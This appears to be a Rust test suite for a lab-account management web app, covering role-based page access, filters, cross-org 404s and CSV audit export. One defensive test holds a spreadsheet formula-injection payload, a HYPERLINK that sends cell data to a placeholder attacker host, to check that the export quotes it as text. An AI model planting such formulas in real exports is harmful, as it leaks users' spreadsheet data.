//! Every page as every role, and the 404 matrix across orgs and Teams.
use crate::helpers::{each_backend, TestApp};

const CSM: &str = "csm@labdesk.test";
const OPS: &str = "ops@northwind.test";
const CLINICIAN: &str = "clinician@northwind.test";
const OTHER_OPS: &str = "ops@globex.test";

fn org_url(app: &TestApp, rest: &str) -> String {
    format!("/orgs/{}{rest}", app.world.org_id)
}

#[test]
fn lab_accounts_list_shows_what_each_role_may_see() {
    each_backend(|app| {
        let url = org_url(app, "/lab_accounts");
        // ops and the CSM see every Northwind account plus the platform account linked to Cardiology.
        for who in [OPS, CSM] {
            let page = app.login(who).get(&url);
            assert_eq!(page.status, 200, "{who}");
            let text = page.text();
            for name in [
                "Quest West",
                "Quest East",
                "Labcorp National",
                "BioReference NY",
                "Sonora Quest Phoenix",
                "Labcorp (platform)",
            ] {
                assert!(text.contains(name), "{who} should see {name}: {text}");
            }
            assert!(text.contains("6 lab accounts"), "{who}: {text}");
            assert!(text.contains("platform-managed"), "{who}");
            assert!(!text.contains("Globex"), "{who} must not see the other org");
            assert_eq!(page.body.contains("New lab account"), who == CSM, "{who}");
        }
        // A clinician of Primary Care sees that Team's accounts only.
        let text = app.login(CLINICIAN).get(&url).text();
        assert!(
            text.contains("Quest West") && text.contains("BioReference NY"),
            "{text}"
        );
        assert!(
            !text.contains("Quest East") && !text.contains("Labcorp National"),
            "{text}"
        );
        assert!(text.contains("2 lab accounts"), "{text}");
    });
}

#[test]
fn lab_accounts_list_filters_by_status_lab_and_team_with_or_without_htmx() {
    each_backend(|app| {
        let c = app.login(OPS);
        let url = org_url(app, "/lab_accounts");
        let text = c.get(&format!("{url}?status=active&lab=quest")).text();
        assert!(
            text.contains("2 lab accounts")
                && text.contains("Quest West")
                && text.contains("Quest East"),
            "{text}"
        );
        let team = app.world.team("Telehealth West");
        let text = c.get(&format!("{url}?team_id={team}")).text();
        assert!(
            text.contains("Quest West")
                && text.contains("Sonora Quest Phoenix")
                && !text.contains("Quest East"),
            "{text}"
        );
        assert!(text.contains("2 lab accounts"), "{text}");
        // The htmx request gets only the table fragment.
        let fragment = c.htmx_get(&format!("{url}?status=suspended"));
        assert!(
            fragment
                .body
                .trim_start()
                .starts_with("<div id=\"accounts-table\">"),
            "{}",
            fragment.body
        );
        assert!(!fragment.body.contains("<html"));
        assert!(
            fragment.text().contains("BioReference NY")
                && fragment.text().contains("1 lab account")
        );
        // No match: an empty state that offers to clear the filters.
        let none = c.get(&format!("{url}?status=pending&lab=quest")).text();
        assert!(
            none.contains("No lab accounts match these filters"),
            "{none}"
        );
        // A bad filter value is a clear 400, not a silent empty list.
        assert_eq!(c.get(&format!("{url}?status=dormant")).status, 400);
    });
}

#[test]
fn account_page_shows_configuration_billing_grid_links_history_and_audit() {
    each_backend(|app| {
        let id = app.world.account("97500001");
        let page = app
            .login(OPS)
            .get(&org_url(app, &format!("/lab_accounts/{id}")));
        assert_eq!(page.status, 200);
        let text = page.text();
        for expected in [
            "Quest West",
            "97500001",
            "Not delegated",
            "Client bill",
            "Commercial insurance",
            "AZ",
            "NV",
            "Primary Care",
            "Telehealth West",
            "Contract signed",
            "Go-live",
            "Audit trail",
            "Unlink",
        ] {
            assert!(text.contains(expected), "missing {expected}: {text}");
        }
        // ops may link and unlink but not edit or move status.
        assert!(!page.body.contains("Edit configuration"));
        assert!(!page.body.contains("Change status"));
        // The demo has five open Primary Care orders on Quest West (and a completed and a
        // cancelled one, which do not count).
        assert!(page.body.contains("hx-confirm=\"Unlink Team Primary Care? 5 open orders of Team Primary Care use this account;"));

        let csm = app
            .login(CSM)
            .get(&org_url(app, &format!("/lab_accounts/{id}")))
            .body;
        assert!(csm.contains("Edit configuration") && csm.contains("Change status"));

        let clinician = app
            .login(CLINICIAN)
            .get(&org_url(app, &format!("/lab_accounts/{id}")));
        assert_eq!(clinician.status, 200);
        let text = clinician.text();
        assert!(
            text.contains("Primary Care") && !text.contains("Telehealth West"),
            "a clinician sees only their Teams: {text}"
        );
        assert!(
            !clinician.body.contains("Unlink")
                && !text.contains("Audit trail")
                && !text.contains("Edit configuration")
        );
    });
}

#[test]
fn teams_pages_list_linked_accounts() {
    each_backend(|app| {
        let text = app.login(OPS).get(&org_url(app, "/teams")).text();
        for expected in [
            "Cardiology",
            "Primary Care",
            "Telehealth West",
            "Quest East",
            "Labcorp (platform)",
        ] {
            assert!(text.contains(expected), "{expected}: {text}");
        }
        let team = app.world.team("Cardiology");
        let text = app
            .login(OPS)
            .get(&org_url(app, &format!("/teams/{team}")))
            .text();
        assert!(
            text.contains("Team Cardiology")
                && text.contains("Quest East")
                && text.contains("platform-managed"),
            "{text}"
        );
        let clinician = app.login(CLINICIAN);
        let text = clinician.get(&org_url(app, "/teams")).text();
        assert!(
            text.contains("Primary Care") && !text.contains("Cardiology"),
            "{text}"
        );
    });
}

#[test]
fn audit_page_filters_and_exports_csv() {
    each_backend(|app| {
        let c = app.login(OPS);
        let id = app.world.account("BR-7781");
        let page = c.get(&org_url(
            app,
            &format!("/audit?entity_type=lab_account&entity_id={id}"),
        ));
        assert_eq!(page.status, 200);
        let text = page.text();
        assert!(
            text.contains("Billing dispute with the lab")
                && text.contains("lab_account.status_changed"),
            "{text}"
        );
        assert!(
            !text.contains("Quest West"),
            "filtered to one account: {text}"
        );
        let by_actor = c
            .get(&org_url(app, "/audit?actor=nobody%40example.com"))
            .text();
        assert!(by_actor.contains("No audit events match these filters"));
        let future = c.get(&org_url(app, "/audit?from=2999-01-01")).text();
        assert!(future.contains("No audit events match these filters"));
        let today = chrono::Utc::now().format("%Y-%m-%d").to_string();
        let dated = c
            .get(&org_url(
                app,
                &format!("/audit?from={today}&to={today}&entity_id={id}"),
            ))
            .text();
        assert!(dated.contains("Billing dispute"), "{dated}");
        let bad = c.get(&org_url(app, "/audit?from=yesterday")).text();
        assert!(bad.contains("is not a date like"), "{bad}");

        let csv = c.get(&org_url(app, &format!("/audit.csv?entity_id={id}")));
        assert_eq!(csv.status, 200);
        assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
        let mut lines = csv.body.lines();
        assert!(lines
            .next()
            .unwrap()
            .starts_with("id,at_utc,actor_type,actor,action"));
        let rows: Vec<&str> = lines.collect();
        assert!(rows.len() >= 3, "{}", csv.body);
        assert!(rows.iter().all(|r| r.contains(id)), "{}", csv.body);

        // Clinicians have no audit page.
        let clinician = app.login(CLINICIAN);
        assert_eq!(clinician.get(&org_url(app, "/audit")).status, 403);
        assert_eq!(clinician.get(&org_url(app, "/audit.csv")).status, 403);
    });
}

#[test]
fn another_orgs_or_teams_objects_answer_404() {
    each_backend(|app| {
        let w = &app.world;
        let nw = &w.org_id;
        let globex = &w.other_org_id;
        let globex_account = w.account("88100001");
        let globex_team = w.team("Globex Downtown");
        let quest_east = w.account("97500002");
        let cardio = w.team("Cardiology");
        let missing = "00000000-0000-4000-8000-000000000000";
        let cases: Vec<(&str, String)> = vec![
            (OPS, format!("/orgs/{globex}/lab_accounts")),
            (OPS, format!("/orgs/{globex}/lab_accounts/{globex_account}")),
            (OPS, format!("/orgs/{nw}/lab_accounts/{globex_account}")),
            (OPS, format!("/orgs/{globex}/teams/{globex_team}")),
            (OPS, format!("/orgs/{nw}/teams/{globex_team}")),
            (OPS, format!("/orgs/{globex}/audit")),
            (OPS, format!("/orgs/{nw}/lab_accounts/{missing}")),
            (OPS, format!("/orgs/{nw}/lab_accounts/not-a-uuid")),
            (CSM, format!("/orgs/{globex}/lab_accounts")),
            (CSM, format!("/orgs/{nw}/lab_accounts/{globex_account}")),
            (OTHER_OPS, format!("/orgs/{nw}/lab_accounts")),
            (
                OTHER_OPS,
                format!("/orgs/{globex}/lab_accounts/{quest_east}"),
            ),
            (CLINICIAN, format!("/orgs/{nw}/lab_accounts/{quest_east}")),
            (CLINICIAN, format!("/orgs/{nw}/teams/{cardio}")),
            (
                CLINICIAN,
                format!("/orgs/{nw}/lab_accounts?team_id={cardio}"),
            ),
            (CLINICIAN, format!("/orgs/{globex}/teams")),
        ];
        let clients: Vec<(&str, crate::helpers::Client)> = [OPS, CSM, OTHER_OPS, CLINICIAN]
            .iter()
            .map(|w| (*w, app.login(w)))
            .collect();
        for (who, url) in cases {
            let c = &clients.iter().find(|(w, _)| *w == who).unwrap().1;
            let res = c.get(&url);
            assert_eq!(res.status, 404, "{who} GET {url}: {}", res.text());
            assert!(
                !res.body.contains("Globex Quest") && !res.body.contains("Quest East"),
                "{who} {url} leaked data"
            );
        }
        // Writes to another org's objects are 404 too, and change nothing.
        let ops = &clients[0].1;
        let res = ops.post_form(
            &format!("/orgs/{nw}/lab_accounts/{globex_account}/teams"),
            &[("team_id", cardio)],
        );
        assert_eq!(res.status, 404);
        let res = ops.post_form(
            &format!("/orgs/{nw}/lab_accounts/{quest_east}/teams"),
            &[("team_id", globex_team)],
        );
        assert_eq!(res.status, 404);
        assert_eq!(
            app.linked_team_ids(globex_account),
            vec![globex_team.to_string()]
        );
        assert_eq!(app.linked_team_ids(quest_east), vec![cardio.to_string()]);
    });
}

#[test]
fn csm_sees_platform_accounts_and_others_may_not() {
    each_backend(|app| {
        let text = app.login(CSM).get("/platform/lab_accounts").text();
        assert!(
            text.contains("Labcorp (platform)") && text.contains("LC-PLATFORM-1"),
            "{text}"
        );
        assert!(!text.contains("Quest West"));
        for who in [OPS, CLINICIAN] {
            assert_eq!(
                app.login(who).get("/platform/lab_accounts").status,
                403,
                "{who}"
            );
        }
        let id = app.world.account("LC-PLATFORM-1");
        let page = app.login(CSM).get(&format!("/platform/lab_accounts/{id}"));
        assert_eq!(page.status, 200);
        assert!(page.text().contains("Cardiology"));
    });
}

#[test]
fn audit_csv_cells_that_start_like_a_formula_are_quoted_as_text() {
    use labdesk::db::audit::{record, Actor, AuditEntry};
    each_backend(|app| {
        let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#;
        let entity = app.world.account("BR-7781");
        record(
            &mut app.conn(),
            &Actor::system("@SUM(1+1)"),
            AuditEntry {
                action: "lab_account.edited",
                entity_type: "lab_account",
                entity_id: entity,
                org_id: Some(&app.world.org_id),
                team_id: None,
                summary: formula.to_string(),
                details: serde_json::json!({}),
            },
        )
        .unwrap();
        let c = app.login(OPS);
        let csv = c.get(&org_url(app, &format!("/audit.csv?entity_id={entity}")));
        assert_eq!(csv.status, 200);
        let mut reader = ::csv::Reader::from_reader(csv.body.as_bytes());
        let row = reader
            .records()
            .map(Result::unwrap)
            .find(|r| r[9].contains("HYPERLINK"))
            .unwrap_or_else(|| panic!("the row is exported: {}", csv.body));
        assert_eq!(&row[9], format!("'{formula}"), "summary");
        assert_eq!(&row[3], "'@SUM(1+1)", "actor");
        // Ordinary cells are untouched, and the page shows the summary as it was written.
        assert_eq!(&row[6], entity);
        let page = c.get(&org_url(app, &format!("/audit?entity_id={entity}")));
        assert!(page.text().contains("=HYPERLINK("), "{}", page.text());
        assert!(!page.text().contains("'=HYPERLINK("), "{}", page.text());
    });
}

/// The layout's header, where the deployment marker sits.
fn topbar(html: &str) -> &str {
    let start = html.find(r#"<header class="topbar">"#).expect("a topbar");
    let end = start + html[start..].find("</header>").expect("its end");
    &html[start..end]
}

#[test]
fn a_sandbox_deployment_says_so_on_every_page_and_production_does_not() {
    for backend in crate::helpers::backends() {
        for (env, marked) in [("sandbox", true), ("production", false)] {
            let app = TestApp::spawn_in(backend, env);
            let team = app.world.team("Primary Care");
            let pages = [
                (OPS, org_url(&app, "/lab_accounts")),
                (OPS, org_url(&app, "/orders")),
                (OPS, org_url(&app, "/audit")),
                (CSM, "/platform/lab_keys".to_string()),
                (CLINICIAN, org_url(&app, &format!("/teams/{team}"))),
                (
                    CLINICIAN,
                    org_url(&app, &format!("/teams/{team}/orders/new")),
                ),
            ];
            for (who, url) in pages {
                let page = app.login(who).get(&url);
                assert_eq!(page.status, 200, "{env} {url}");
                let header = topbar(&page.body);
                // In words, not only a colour (the seeded audit rows may say "Sandbox" elsewhere).
                assert_eq!(header.contains(">Sandbox</strong>"), marked, "{env} {url}");
                assert_eq!(header.contains("Sandbox"), marked, "{env} {url}");
            }
            // The pages outside the signed-in layout: sign-in, and an error page.
            let sign_in = app.client().get("/login");
            let missing = app
                .login(OPS)
                .get(&format!("/orgs/{}/lab_accounts", uuid::Uuid::new_v4()));
            for (what, page) in [("sign-in", sign_in), ("404", missing)] {
                let header = topbar(&page.body);
                assert_eq!(header.contains(">Sandbox</strong>"), marked, "{env} {what}");
            }
        }
    }
}
